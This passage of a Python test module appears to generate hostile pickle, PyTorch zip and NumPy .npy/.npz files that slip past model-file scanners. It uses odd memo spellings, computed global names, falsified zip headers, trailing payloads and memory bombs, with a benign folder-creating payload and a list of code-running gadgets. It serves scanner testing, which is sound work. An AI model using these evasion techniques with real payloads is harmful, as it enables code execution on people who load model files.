"""Pickles put together opcode by opcode, and zips byte by byte, in every spelling that no writer uses.

Nothing here imports or calls the names that it spells. `attacks()` is a list of named files, one for each way to lead
a loader to something that a scan does not see. `random_file()` draws files from a grammar of opcodes, gadgets and
forms. A file that runs code makes the folder RAN in the loader's working folder, and does nothing else.
"""
import io
import pickle
import struct
import zipfile
import zlib

RAN = "dsckpt-hostile-pickle-ran"
PROTO4 = b"\x80\4"
STOP, REDUCE, BUILD, NEWOBJ, POP, NONE = b".", b"R", b"b", b"\x81", b"0", b"N"
TRUE, FALSE, EMPTY_DICT, EMPTY_LIST, EMPTY_TUPLE, EMPTY_SET = b"\x88", b"\x89", b"}", b"]", b")", b"\x8f"
MAGIC = b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19."


def text(value):
    encoded = value.encode()
    return b"X" + struct.pack("<I", len(encoded)) + encoded


def number(value):
    if 0 <= value < 256:
        return b"K" + bytes([value])
    if -1 << 31 <= value < 1 << 31:
        return b"J" + struct.pack("<i", value)
    data = value.to_bytes((value.bit_length() + 8) // 8, "little", signed=True)
    return b"\x8a" + bytes([len(data)]) + data


def data(value):
    return b"B" + struct.pack("<I", len(value)) + value


def name(dotted):
    """GLOBAL for "module:name"."""
    module, attribute = dotted.split(":")
    return f"c{module}\n{attribute}\n".encode()


def tuple_of(*values):
    return b"(" + b"".join(values) + b"t"


def list_of(*values):
    return b"](" + b"".join(values) + b"e"


def dict_of(items):
    return b"}(" + b"".join((text(key) if isinstance(key, str) else key) + value for key, value in items.items()) + b"u"


def call(function, *arguments):
    return (name(function) if isinstance(function, str) else function) + tuple_of(*arguments) + REDUCE


def made(cls, state=None):
    return name(cls) + b")" + NEWOBJ + (b"" if state is None else state + BUILD)


def put(index):
    return b"r" + struct.pack("<I", index)


def get(index):
    return b"j" + struct.pack("<I", index)


def pickled(body, protocol=4):
    return b"\x80" + bytes([protocol]) + body + STOP


# The parts that make the folder: a call, a whole pickle, and a name before its arguments.
RUN_NAME, RUN_ARGUMENTS = "posix:mkdir", tuple_of(text(RAN))
RUN = name(RUN_NAME) + RUN_ARGUMENTS + REDUCE
EVIL = pickled(RUN)

# ---- memo indices

INDEX_SPELLINGS = (b"1_0", b" 10", b"10 ", b"+10", b"\t10", b"010", b"0000010", b"10\0", b"10\x0b", b"10\r", b"1_0_")


def confused(indices, opener=b"p", header=PROTO4):
    """Two names under each of two indices. A scan that reads an index differently from Python takes the other name."""
    evil_module, plain_module, evil_name, plain_name = indices
    out = header
    for index, word in ((evil_module, "posix"), (evil_name, "mkdir"), (plain_module, "collections"), (plain_name,
                                                                                                      "OrderedDict")):
        out += text(word) + opener + index + b"\n0"
    return out + b"g" + evil_module + b"\ng" + evil_name + b"\n\x93" + RUN_ARGUMENTS + REDUCE + STOP


def memo_attacks():
    for spelling in INDEX_SPELLINGS:
        other = spelling.replace(b"1", b"2")
        label = repr(spelling)[2:-1].replace("\\", "x").replace(" ", "_")
        yield f"memo-put-{label}.pkl", confused((spelling, b"1", other, b"2"))
        yield f"memo-ten-{label}.pkl", confused((spelling, b"10", other, b"20"))
        # Only GET is spelled differently.
        body = PROTO4 + name(RUN_NAME) + b"p10\n0" + name("collections:OrderedDict") + b"p1\n0"
        yield f"memo-get-{label}.pkl", body + b"g" + spelling + b"\n" + RUN_ARGUMENTS + REDUCE + STOP
    for opcode, index in ((b"q", b"\x40"), (b"r", struct.pack("<I", 1 << 24)), (b"p", b"16777216\n")):
        yield f"memo-far-{opcode.decode()}.pkl", PROTO4 + NONE + opcode + index + STOP
    # MEMOIZE takes the number of used indices, so a gap comes before it.
    yield "memo-memoize-gap.pkl", pickled(NONE + b"q\1" + POP + name(RUN_NAME) + b"\x94" + POP + b"h\1" +
                                          RUN_ARGUMENTS + REDUCE)
    # The last value stored under an index counts, with any opcode.
    for again in (b"p1\n", b"q\1", put(1)):
        body = name("collections:OrderedDict") + b"q\1" + POP + name(RUN_NAME) + again + POP
        yield f"memo-again-{again[:1].decode()}.pkl", pickled(body + b"h\1" + RUN_ARGUMENTS + REDUCE)


# ---- opcodes


def opcode_attacks():
    for label, word in {
            "short": lambda t: b"\x8c" + bytes([len(t)]) + t,
            "long": lambda t: b"\x8d" + struct.pack("<Q", len(t)) + t,
            "unicode": lambda t: b"V" + t + b"\n",
            "string": lambda t: b"S'" + t + b"'\n",
            "binstring": lambda t: b"T" + struct.pack("<i", len(t)) + t,
            "shortbin": lambda t: b"U" + bytes([len(t)]) + t,
            "escaped": lambda t: b"V" + b"".join(b"\\u%04x" % c for c in t) + b"\n",
            "octal": lambda t: b"S'" + b"".join(b"\\%03o" % c for c in t) + b"'\n"
    }.items():
        yield f"name-{label}.pkl", pickled(word(b"posix") + word(b"mkdir") + b"\x93" + RUN_ARGUMENTS + REDUCE)
    yield "opcode-dup.pkl", pickled(name("collections:OrderedDict") + b"2" + EMPTY_TUPLE + REDUCE)
    yield "opcode-dup-evil.pkl", pickled(name(RUN_NAME) + b"2" + RUN_ARGUMENTS + REDUCE)
    yield "opcode-protocol-again.pkl", pickled(NONE + POP + b"\x80\2" + name("__builtin__:set") + EMPTY_TUPLE + REDUCE)
    yield "opcode-readonly-buffer.pkl", pickled(data(b"x") + b"\x98", 5)
    yield "opcode-next-buffer.pkl", pickled(b"\x97", 5)
    for code in (b"\x82\1", b"\x83\1\0", b"\x84\1\0\0\0"):
        yield f"opcode-extension-{code[0]:x}.pkl", pickled(code)
        yield f"opcode-extension-{code[0]:x}.weights", b"(dp0\n0" + code + b")R."
    yield "opcode-inst.pkl", b"(S'" + RAN.encode() + b"'\niposix\nmkdir\n."
    yield "opcode-obj.pkl", b"(cposix\nmkdir\nS'" + RAN.encode() + b"'\no."
    yield "opcode-obj-headless.weights", b"(cposix\nmkdir\nS'" + RAN.encode() + b"'\no."
    yield "opcode-newobj-ex.pkl", pickled(name("collections:OrderedDict") + EMPTY_TUPLE + EMPTY_DICT + b"\x92")
    yield "opcode-inst-of-harmless.pkl", b"(icollections\nOrderedDict\n."
    frame = b"\x95" + struct.pack("<Q", len(RUN) + 1)
    yield "opcode-frame.pkl", PROTO4 + frame + RUN + STOP
    yield "opcode-frame-lies.pkl", PROTO4 + b"\x95" + struct.pack("<Q", 1 << 40) + RUN + STOP
    yield "opcode-persistent.pkl", pickled(text("x") + b"Q" + text("x") + b"\x85R")
    yield "opcode-persistent-storage-outside.pkl", pickled(
        tuple_of(text("storage"), name("torch:FloatStorage"), text("0"), text("cpu"), number(1)) + b"Q")


# ---- names that are computed


def as_text(word):
    return call("builtins:str", data(word.encode()), text("utf-8"))


def computed():
    return as_text("posix") + as_text("mkdir") + b"\x93" + RUN_ARGUMENTS + REDUCE


def computed_attacks():
    for file in ("computed.pkl", "computed.weights", "computed", "computed.txt"):
        yield file, computed() + STOP
        yield "header-" + file, PROTO4 + computed() + STOP
    yield "computed-format.weights", call("builtins:str.format", text("{}"),
                                          text("posix")) + text("mkdir") + b"\x93" + STOP
    joined = call("builtins:bytes.decode", data(b"posix"))
    yield "computed-decode", joined + text("mkdir") + b"\x93" + RUN_ARGUMENTS + REDUCE + STOP


# ---- harmless names with the wrong values

NAMESPACE = call("types:SimpleNamespace")


def interface(size=8):
    """An object that NumPy takes for an array at any address."""
    return NAMESPACE + dict_of({
        "__array_interface__": dict_of({
            "shape": tuple_of(number(size)),
            "typestr": text("<i8"),
            "data": tuple_of(number(0), FALSE),
            "version": number(3)
        })
    }) + BUILD


def dtype(code, state=None, align=FALSE, copy=TRUE):
    out = call("numpy:dtype", text(code), align, copy)
    return out if state is None else out + tuple_of(*state) + BUILD


def dtype_state(order="<", base=NONE, names=NONE, fields=NONE, size=-1, alignment=-1, flags=0, version=3, more=()):
    return (number(version), text(order), base, names, fields, number(size), number(alignment), number(flags), *more)


def reconstructed(state, subtype="numpy:ndarray", shape=(0, ), letter=b"b"):
    return call("numpy._core.multiarray:_reconstruct", name(subtype), tuple_of(*map(number, shape)), data(letter)) + \
        (b"" if state is None else state + BUILD)


def array_state(shape, element, content, version=1):
    return tuple_of(number(version), tuple_of(*map(number, shape)), element, FALSE, content)


def structure(element, offset=0):
    """A type of eight bytes with one field."""
    fields = dict_of({"a": tuple_of(element, number(offset))})
    return dtype("V8", dtype_state("|", names=tuple_of(text("a")), fields=fields, size=8, alignment=1, flags=16))


F8 = dtype("f8", dtype_state())
OBJECTS = dtype("O8", dtype_state("|", flags=63))


def numpy_attacks():
    for scalar in ("int64", "float64", "uint8", "str_", "bytes_", "datetime64", "bool_", "complex128", "longdouble"):
        yield f"numpy-scalar-{scalar}-interface.pkl", pickled(call(f"numpy:{scalar}", interface()))
        yield f"numpy-scalar-{scalar}-plain.pkl", pickled(call(f"numpy:{scalar}", number(1)))
        yield f"numpy-scalar-{scalar}-made.pkl", pickled(name(f"numpy:{scalar}") + tuple_of(number(1)) + NEWOBJ)
    yield "numpy-array-called.pkl", pickled(call("numpy:ndarray", tuple_of(number(1 << 40)), text("O")))
    yield "numpy-array-offset.pkl", pickled(
        call("numpy:ndarray", EMPTY_TUPLE, text("<i8"), data(b"12345678"), number(1 << 30)))
    yield "numpy-array-made.pkl", pickled(name("numpy:ndarray") + tuple_of(tuple_of(number(1)), text("O")) + NEWOBJ)
    codes = {"i8": 0, "u4": 0, "f8": 0, "c16": 0, "b1": 0, "M8": 0, "S3": 0, "U5": 8, "V7": 0, "O8": 63}
    for code, right in codes.items():
        sizes = {"S3": (3, 1), "U5": (20, 4), "V7": (7, 1)}.get(code, (-1, -1))
        for flags in {0, 1, 8, 16, 27, 63, 128} - {right}:
            yield f"numpy-dtype-{code}-flags-{flags}.pkl", pickled(
                dtype(code, dtype_state(size=sizes[0], alignment=sizes[1], flags=flags)))
        yield f"numpy-dtype-{code}-size.pkl", pickled(dtype(code, dtype_state(size=1 << 20, alignment=1, flags=right)))
        if code != "O8":
            yield f"numpy-dtype-{code}-singleton.pkl", pickled(
                dtype(code, dtype_state(">", size=sizes[0], alignment=sizes[1], flags=right), copy=FALSE))
    yield "numpy-dtype-object-as-number.pkl", pickled(
        reconstructed(array_state((1, ), dtype("O8", dtype_state("|")), data(b"AAAAAAAA"))))
    yield "numpy-dtype-fields-outside.pkl", pickled(structure(F8, 1 << 20))
    yield "numpy-dtype-fields-negative.pkl", pickled(structure(F8, -64))
    yield "numpy-dtype-hidden-objects.pkl", pickled(structure(OBJECTS))
    yield "numpy-dtype-row.pkl", pickled(
        dtype("V8", dtype_state("|", base=tuple_of(F8, tuple_of(number(1 << 20))), size=8, alignment=8)))
    yield "numpy-dtype-twice.pkl", pickled(F8 + tuple_of(*dtype_state(">")) + BUILD)
    for label, state in {
            "short": array_state((9, ), F8, data(b"8 bytes.")),
            "long": array_state((1, ), F8, data(b"x" * 99)),
            "objects": array_state((1, ), OBJECTS, data(b"AAAAAAAA")),
            "list": array_state((1, ), F8, list_of(NONE)),
            "overflow": array_state((1 << 62, 8), F8, data(b"")),
            "negative": array_state((-1, ), F8, data(b"")),
            "list-size": array_state((5, ), OBJECTS, list_of(NONE)),
            "no-state-type": array_state((1, ), dtype("f8"), data(b"8 bytes."))
    }.items():
        yield f"numpy-state-{label}.pkl", pickled(reconstructed(state))
    yield "numpy-reconstruct-shape.pkl", pickled(reconstructed(None, shape=(1 << 40, )))
    yield "numpy-reconstruct-subtype.pkl", pickled(reconstructed(None, subtype="numpy:memmap"))
    yield "numpy-items.pkl", pickled(
        reconstructed(array_state((1, ), F8, data(b"8 bytes."))) + number(0) + number(1) + b"s")
    yield "numpy-scalar-short.pkl", pickled(call("numpy._core.multiarray:scalar", F8, data(b"x")))
    yield "numpy-scalar-no-data.pkl", pickled(
        call("numpy._core.multiarray:scalar", dtype("V999999999", dtype_state("|", size=999999999, alignment=1))))
    yield "numpy-scalar-object.pkl", pickled(call("numpy._core.multiarray:scalar", OBJECTS, data(b"AAAAAAAA")))
    yield "numpy-buffer-objects.pkl", pickled(
        call("numpy._core.numeric:_frombuffer", data(b"AAAAAAAA"), OBJECTS, tuple_of(number(1)), text("C")))
    yield "numpy-buffer-size.pkl", pickled(
        call("numpy._core.numeric:_frombuffer", data(b"x"), F8, tuple_of(number(9)), text("C")))


def state_attacks():
    for key in ("__setstate__", "__reduce_ex__", "__class__", "__array_interface__", "__array_struct__", "__array__",
                "__dict__"):
        for label, target in {
                "namespace": NAMESPACE,
                "argparse": made("argparse:Namespace"),
                "dict": call("collections:OrderedDict"),
                "arguments": made("transformers.training_args:TrainingArguments"),
                "unknown": made("somebody.models:Net")
        }.items():
            yield f"state-{label}-{key}.pkl", pickled(target + dict_of({key: name("builtins:str")}) + BUILD)
    yield "state-slots.pkl", pickled(
        made("somebody.models:Net") + tuple_of(NONE, dict_of({"__class__": name("builtins:str")})) + BUILD)
    twice = NAMESPACE + dict_of({"a": NONE}) + BUILD + dict_of({"b": NONE}) + BUILD
    yield "state-twice.pkl", pickled(twice)
    yield "state-text-keys.pkl", pickled(NAMESPACE + b"}" + number(1) + NONE + b"s" + BUILD)
    yield "state-tuple.pkl", pickled(NAMESPACE + tuple_of(NONE, NONE) + BUILD)
    yield "state-late-key.pkl", pickled(EMPTY_DICT + put(1) + POP + NAMESPACE + get(1) + text("__setstate__") +
                                        name("builtins:str") + b"s" + BUILD)
    yield "state-of-a-name.pkl", pickled(name("collections:OrderedDict") + dict_of({"a": NONE}) + BUILD)
    for label, target in {
            "namespace": NAMESPACE,
            "size": call("torch:Size", tuple_of(number(1))),
            "counter": call("collections:Counter", EMPTY_DICT),
            "date": call("datetime:date", data(b"\7\xe4\1\1")),
            "tensor": made("argparse:Namespace")
    }.items():
        yield f"items-keys-{label}.pkl", pickled(target + text("a") + NONE + b"s")
        yield f"items-append-{label}.pkl", pickled(target + NONE + b"a")
    yield "items-append-by-state.pkl", pickled(
        call("collections:OrderedDict") + dict_of({"append": name("builtins:str")}) + BUILD + NONE + b"a")
    yield "items-add-to-dict.pkl", pickled(call("collections:OrderedDict") + b"(" + NONE + b"\x90")


def misuse_attacks():
    for label, body in {
            "range": call("builtins:list", call("builtins:range", number(1 << 34))),
            "bytes": call("builtins:bytes", number(1 << 34)),
            "bytearray": call("builtins:bytearray", number(1 << 34)),
            "bytes-made": name("builtins:bytes") + tuple_of(number(1 << 34)) + NEWOBJ,
            "fraction": call("fractions:Fraction", text("1e999999999")),
            "int": call("builtins:int", text("9" * 4000)),
            "str": call("builtins:str", data(b"x"), text("utf-8")),
            "list": call("builtins:list", tuple_of(NONE)),
            "dict": call("builtins:dict", list_of()),
            "tuple": call("builtins:tuple", list_of()),
            "set-of-object": call("builtins:set", NAMESPACE),
            "encode": call("_codecs:encode", text("x"), text("rot13")),
            "encode-object": call("_codecs:encode", NAMESPACE, text("latin1")),
            "getattr": call("builtins:getattr", name("torch:Size"), text("count")),
            "getattr-enum": call("builtins:getattr", name("torch.nn.attention:SDPBackend"), text("__class__")),
            "factory": call("collections:defaultdict", name("torch._utils:_rebuild_tensor")),
            "factory-result": call("collections:defaultdict", call("collections:OrderedDict")),
            "reconstructor": call("copyreg:_reconstructor", name("numpy:ndarray"), name("builtins:object"), NONE),
            "reconstructor-base": call("copyreg:_reconstructor", name("argparse:Namespace"), name("torch:Size"), NONE),
            "device": call("torch:device", NAMESPACE),
            "size": call("torch:Size", list_of(number(1))),
            "size-negative": call("torch:Size", tuple_of(number(-1))),
            "result-called": call("collections:OrderedDict") + EMPTY_TUPLE + REDUCE,
            "function-named": made("argparse:Namespace", dict_of({"append": name("_codecs:encode")})),
            "generator": call("torch:Generator", number(1)),
            "from-type": call("torch._tensor:_rebuild_from_type_v2", name("collections:OrderedDict"),
                              name("torch:Tensor"), EMPTY_TUPLE, EMPTY_DICT),
            "load-bytes": call("torch.storage:_load_from_bytes", data(EVIL)),
            "enum-two": call("signal:Signals", number(1), number(2)),
            "deep-key": EMPTY_DICT + b")" + b"\x85" * 100_000 + NONE + b"s" + POP + NONE,
            "many-generators": call("torch:device", text("cpu")) + put(1) + name("torch:Generator") + put(2) +
            b"1"[:0] + (get(2) + get(1) + b"\x85R0") * 20_000,
            "many-deques": name("collections:deque") + put(1) + POP + b"](" + (get(1) + b")R") * 200_000 + b"e",
            "shared-text": text("x" * 100_000) + put(1) + POP + text("latin1") + put(2) + POP + name("_codecs:encode") +
            put(3) + POP + b"](" + (get(3) + get(1) + get(2) + b"\x86R") * 5_000 + b"e",
            "shared-in-an-object": b")" + b"".join(b"\x94" + b"h" + bytes([n]) + b"\x86"
                                                   for n in range(60)) + put(99) + POP + EMPTY_DICT +
            made("torch.distributed.tensor.placement_types:Shard", dict_of({"dim": get(99)})) + NONE + b"s",
            "shared-tuples": b")" + b"".join(b"\x94" + b"h" + bytes([n]) + b"\x86"
                                             for n in range(60)) + put(99) + b"}" + get(99) + NONE + b"s",
    }.items():
        yield f"misuse-{label}.pkl", pickled(body)


# ---- runs, and what follows


def run_attacks():
    for file in ("runs.txt", "runs.pkl", "runs.weights"):
        for count in (1, 16, 17, 18, 100):
            yield f"{count}-{file}", b"N." * count + EVIL
    plain = pickle.dumps({"a": 1}, 2)
    yield "behind-stop.pkl", plain + b"junk that nobody wrote"
    yield "behind-stop-zeros.pkl", plain + bytes(64)
    yield "behind-stop-evil.bin", plain + EVIL
    yield "behind-stop-evil.weights", plain + RUN + STOP
    parts = (MAGIC, b"\x80\x02M\xe9\x03.", b"\x80\x02}.", b"\x80\x02}.", b"\x80\x02].")
    for number_, part in enumerate(parts):
        changed = list(parts)
        changed[number_] = (MAGIC[:-1] + POP if number_ == 0 else b"\x80\x02") + RUN + STOP
        yield f"legacy-evil-{number_}.weights", b"".join(changed)
    yield "legacy-behind.pt", b"".join(parts) + EVIL
    yield "legacy-keys.pt", b"".join(parts[:4]) + b"\x80\x02](" + text("0") + b"e." + bytes(8)


# ---- zips


class Entry:

    def __init__(self, entry, content, method=0, **lies):
        self.name, self.content, self.method, self.lies = entry, content, method, lies


def zipped(entries, prefix=b"", comment=b"", count=None, disk=0, directory_before=b""):
    """A zip whose headers have wrong values: `lies` of an entry sets local_NAME or central_NAME for every field."""
    out, directory = prefix, b""
    for entry in entries:
        raw = entry.content
        if entry.method == 8:
            deflate = zlib.compressobj(9, 8, -15)
            raw = deflate.compress(raw) + deflate.flush()
        lies = entry.lies
        entry_name = entry.name.encode() if isinstance(entry.name, str) else entry.name
        local_name = lies.get("local_name", entry_name)
        fields = {
            "method": entry.method,
            "flags": 0,
            "crc": zlib.crc32(entry.content),
            "stored": len(raw),
            "size": len(entry.content),
            "extra": b""
        }
        local = {key: lies.get("local_" + key, lies.get(key, value)) for key, value in fields.items()}
        central = {key: lies.get("central_" + key, lies.get(key, value)) for key, value in fields.items()}
        offset = lies.get("offset", len(out) - (0 if lies.get("count_prefix", True) else len(prefix)))
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, local["flags"],
                           local["method"], 0, 0, local["crc"], local["stored"], local["size"], len(local_name),
                           len(local["extra"])) + local_name + local["extra"] + raw + lies.get("behind", b"")
        directory += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, central["flags"],
                                 central["method"], 0, 0, central["crc"], central["stored"], central["size"],
                                 len(entry_name), len(central["extra"]), 0, lies.get("disk", 0), 0,
                                 lies.get("attributes", 0), offset) + entry_name + central["extra"]
    begin = len(out)
    count = len(entries) if count is None else count
    return out + directory_before + directory + struct.pack("<IHHHHIIH", 0x06054B50, disk, disk, count, count,
                                                            len(directory), begin, len(comment)) + comment


def torch_zip(content, method=0, more=(), entry="archive/data.pkl", **lies):
    return zipped([
        Entry(entry, content, method, **lies),
        Entry("archive/version", b"3\n"),
        Entry("archive/byteorder", b"little"), *more
    ])


def zip_attacks():
    evil = EVIL
    for method, other in ((8, 0), (0, 8), (0, 12), (8, 12), (8, 14)):
        yield f"zip-method-{method}-local-{other}.pt", torch_zip(evil, method, local_method=other)
    for label, lies in {
            "local-name-long": {
                "local_name": b"q" * 5000
            },
            "local-name-data": {
                "local_name": b"archive/data/000"
            },
            "local-size": {
                "local_size": 1
            },
            "local-stored": {
                "local_stored": 1
            },
            "local-flags": {
                "local_flags": 1
            },
            "disk": {
                "disk": 1
            },
            "disk-long": {
                "disk": 1,
                "local_name": b"q" * 5000
            },
            "encrypted": {
                "flags": 1
            },
            "method-97": {
                "method": 97
            },
            "folder": {
                "attributes": 16
            },
            "central-size": {
                "central_size": 3
            },
            "unicode-path": {
                "central_extra": struct.pack("<HHBI", 0x7075, 12, 1, 0) + b"plain.x"
            },
            "zip64-lies": {
                "central_extra": struct.pack("<HHQ", 1, 8, 5),
                "central_size": 0xFFFFFFFF,
                "central_stored": len(evil)
            },
            "zip64-short": {
                "central_extra": struct.pack("<HHI", 1, 4, 5),
                "central_size": 0xFFFFFFFF
            },
            "descriptor-lies": {
                "flags": 8,
                "local_size": 0,
                "local_stored": 0,
                "local_crc": 0,
                "behind": b"PK\7\10" + bytes(12) + b"more"
            },
            "overlap": {
                "central_stored": len(evil) + 4,
                "central_size": len(evil) + 4
            },
            "offset": {
                "offset": 1
            },
            "behind": {
                "behind": b"sixteen bytes in"
            },
            "wrong-crc-deflated": {
                "method": 8,
                "crc": 1
            }
    }.items():
        yield f"zip-{label}.pt", torch_zip(evil, **lies)
        yield f"zip-{label}-of-a-text.pt", torch_zip(pickle.dumps("a", 2), more=[Entry("archive/x", evil, **lies)])
    for label, entry in {
            "long-name": "archive/" + "d" * 600 + "/data.pkl",
            "nul": b"archive/data.pkl\0.txt",
            "control": b"archive/\x01data.pkl",
            "newline": b"archive/data.pkl\n"
    }.items():
        yield f"zip-name-{label}.pt", torch_zip(pickle.dumps("a", 2), entry=entry)
    plain = Entry("archive/data.pkl", pickle.dumps("a", 2))
    for second in ("archive/data.pkl", "archive/DATA.PKL", "ARCHIVE/data.pkl"):
        yield f"zip-two-{second.replace('/', '-')}.pt", zipped(
            [plain, Entry(second, evil), Entry("archive/version", b"3\n")])
    yield "zip-deflated-other-hides.pt", zipped([
        Entry("archive/data.pkl", evil, local_name=b"a" * 5000),
        Entry("archive/version", b"3\n"),
        Entry("archive/x", b"x" * 50, 8)
    ])
    whole = torch_zip(pickle.dumps("a", 2))
    yield "zip-behind-evil.pt", EVIL + whole
    yield "zip-behind-evil.weights", EVIL + whole
    yield "zip-behind-text.txt", b"words\n" + torch_zip(evil)
    yield "zip-prefix-counted.pt", zipped([plain, Entry("archive/version", b"3\n")], prefix=b"PK\3\4 something")
    yield "zip-without-directory.pt", torch_zip(evil)[:-200]
    yield "zip-count.pt", zipped([plain, Entry("archive/evil.pkl", evil)], count=1)
    yield "zip-disk-of-end.pt", zipped([plain], disk=1)
    yield "zip-comment.pt", zipped([plain], comment=b"x") + b"y"
    yield "zip-gap.pt", zipped([plain], directory_before=b"PK\3\4" + bytes(40))
    storage = tuple_of(text("storage"), name("torch:FloatStorage"), text("0"), text("cpu"), number(1000)) + b"Q"
    tensor = call("torch._utils:_rebuild_tensor_v2", storage, number(0), tuple_of(number(1000)), tuple_of(number(1)),
                  FALSE, call("collections:OrderedDict"))
    yield "zip-storage-short.pt", torch_zip(pickled(tensor, 2), more=[Entry("archive/data/0", bytes(8))])
    yield "zip-storage-missing.pt", torch_zip(pickled(tensor, 2))
    yield "zip-deflated-bomb.pt", torch_zip(pickled(b"](" + b"]" * 4_000_000 + b"e"), 8)
    yield "zip-inner.pt", torch_zip(pickled(dict_of({"state": data(torch_zip(evil))})))
    yield "zip-inner-pickle.pt", torch_zip(pickled(dict_of({"state": data(evil)})))
    yield "zip-storage-pickle.pt", torch_zip(pickle.dumps("a", 2), more=[Entry("archive/data/0", evil)])
    yield "zip-serialization-id.pt", torch_zip(pickle.dumps("a", 2),
                                               more=[Entry("archive/.data/serialization_id", evil)])


# ---- NumPy's files


def npy(descr, content, shape="(1,)", version=b"\1\0", blanks=0, order="False"):
    header = f"{{'descr': {' ' * blanks}{descr}, 'fortran_order': {order}, 'shape': {shape}, }}".encode()
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY" + version + struct.pack("<H" if version[0] == 1 else "<I", len(header)) + header + content


def npy_attacks():
    bodies = {
        "evil": EVIL,
        "computed": PROTO4 + computed() + STOP,
        "memo": confused((b"1_0", b"1", b"2_0", b"2")),
        "headless": RUN + STOP
    }
    spellings = ("'|O'", "'O'", "'object'", "'object_'", "'O8'", "'\\x4f'", "'\\u004f'", "'ob' 'ject'", "\"O\"",
                 "[('a', '|O')]", "[('a', 'obj' 'ect')]", "[('a', '<i4'), ('b', '|O')]", "('|O', (1,))",
                 "{'names': ['a'], 'formats': ['O']}", "'i4,O'", "b'O'", "u'O'")
    for label, body in bodies.items():
        for index, spelling in enumerate(spellings):
            yield f"npy-{label}-{index}.npy", npy(spelling, body)
    for version in (b"\2\0", b"\3\0"):
        yield f"npy-version-{version[0]}.npy", npy("'object'", EVIL, version=version)
        yield f"npy-blanks-{version[0]}.npy", npy("'object'", EVIL, version=version, blanks=1 << 20)
    yield "npy-behind.npy", npy("'<f8'", bytes(8) + EVIL)
    yield "npy-short.npy", npy("'<f8'", b"", shape="(1000000000,)")
    for method in (zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED):
        for label in ("evil", "computed", "memo"):
            stream = io.BytesIO()
            with zipfile.ZipFile(stream, "w", method) as archive:
                archive.writestr(zipfile.ZipInfo("a.npy"), npy("'object'", bodies[label]), method)
            yield f"npz-{label}-{method}.npz", stream.getvalue()


def attacks():
    """Names and contents of files that no scan may call harmless."""
    for group in (memo_attacks, opcode_attacks, computed_attacks, numpy_attacks, state_attacks, misuse_attacks,
                  run_attacks, zip_attacks, npy_attacks):
        yield from group()


# ---- well-formed files: the same pieces, as writers put them together


def harmless():
    """Names and contents of files that consist of the same pieces, and that writers do write."""
    yield "memo.pkl", b"(lp0\nI1\nag0\na."
    yield "element-type.pkl", pickled(F8)
    yield "array.pkl", pickled(reconstructed(array_state((1, ), F8, data(b"8 bytes."))))
    yield "array-of-objects.pkl", pickled(reconstructed(array_state((2, ), OBJECTS, list_of(NONE, text("a")))))
    yield "scalar.pkl", pickled(call("numpy._core.multiarray:scalar", F8, data(b"8 bytes.")))
    yield "buffer.pkl", pickled(
        call("numpy._core.numeric:_frombuffer", data(b"8 bytes."), F8, tuple_of(number(1)), text("C")))
    yield "structure.pkl", pickled(structure(F8))
    yield "namespace.pkl", pickled(NAMESPACE + dict_of({"a": name("builtins:str")}) + BUILD)
    yield "ordered.pkl", pickled(
        call("collections:OrderedDict") + text("a") + NONE + b"s" + dict_of({"_metadata": NONE}) + BUILD)
    yield "key.pkl", pickled(EMPTY_DICT + tuple_of(number(1), tuple_of(text("a"))) + NONE + b"s")
    yield "runs.pkl", b"N." * 30
    yield "legacy.pt", MAGIC + b"\x80\x02M\xe9\x03.\x80\x02}.\x80\x02}.\x80\x02]."
    storage = tuple_of(text("storage"), name("torch:FloatStorage"), text("0"), text("cpu"), number(2)) + b"Q"
    tensor = call("torch._utils:_rebuild_tensor_v2", storage, number(0), tuple_of(number(2)), tuple_of(number(1)),
                  FALSE, call("collections:OrderedDict"))
    yield "tensor.pt", torch_zip(pickled(tensor, 2), more=[Entry("archive/data/0", bytes(8))])
    yield "deflated.pt", torch_zip(pickle.dumps("a", 2), 8)
    yield "array.npy", npy("'<f8'", bytes(8))
    yield "structure.npy", npy("[('a', '<i4'), ('b', '<f8', (2,)), (('t', 'c'), '|S3')]", bytes(23))
    yield "objects.npy", npy("'|O'", pickled(reconstructed(array_state((1, ), OBJECTS, list_of(NONE)))))
    yield "words.txt", b"import os\nos.system\n"
    yield "list.txt", b"one\ntwo\n"


# ---- random files


# The names that pickles may have here: those of writers, those that run code (only to make RAN), and callables
# between.
def names_of(module, names):
    return [f"{module}:{attribute}" for attribute in names.split()]


PLAIN_NAMES = [
    *names_of("builtins", "bool bytearray bytes complex dict float frozenset int list"),
    *names_of("builtins", "object range set slice str tuple"),
    *names_of("collections", "OrderedDict Counter deque defaultdict ChainMap UserDict"),
    *names_of("numpy", "dtype ndarray int64 float64 uint8 str_ bool_ datetime64 void object_"),
    *names_of("numpy._core.multiarray", "_reconstruct scalar"), "numpy._core.numeric:_frombuffer", "_codecs:encode",
    *names_of("copyreg", "_reconstructor __newobj__"), "types:SimpleNamespace", "argparse:Namespace",
    *names_of("datetime", "datetime timedelta"), "decimal:Decimal", "fractions:Fraction", "pathlib:PurePosixPath",
    "uuid:UUID", *names_of("signal", "Signals SIGTERM"),
    *names_of("numpy.random._pickle", "__bit_generator_ctor __randomstate_ctor __generator_ctor"),
    "numpy.random._mt19937:MT19937", "numpy.random._pcg64:PCG64"
]
TORCH_NAMES = [
    "torch:Size", "torch:device", "torch:float32", "torch:Generator", "torch:Tensor", "torch._utils:_rebuild_tensor_v2",
    "torch._utils:_rebuild_parameter", "torch._utils:_rebuild_sparse_tensor", "torch._utils:_rebuild_qtensor",
    "torch._utils:_rebuild_meta_tensor_no_storage", "torch._tensor:_rebuild_from_type_v2",
    "torch.serialization:_get_layout", "torch:FloatStorage", "torch.nn.parameter:Parameter",
    "torch.torch_version:TorchVersion"
]
GADGET_NAMES = [
    "posix:mkdir", "os:mkdir", "builtins:eval", "builtins:exec", "builtins:map", "builtins:getattr",
    "functools:partial", "operator:methodcaller", "operator:attrgetter", "itertools:starmap", "builtins:filter",
    "copyreg:add_extension", "types:FunctionType", "importlib:import_module", "pickle:loads", "_pickle:loads",
    "torch.storage:_load_from_bytes"
]
CODE = f"__import__('os').mkdir({RAN!r})"


class Grammar:
    """Draws random pickles. `with_torch`: also with names of torch."""

    def __init__(self, dice, with_torch):
        self.dice = dice
        self.names = PLAIN_NAMES + (TORCH_NAMES if with_torch else [])
        self.memo = []

    def pick(self, *choices):
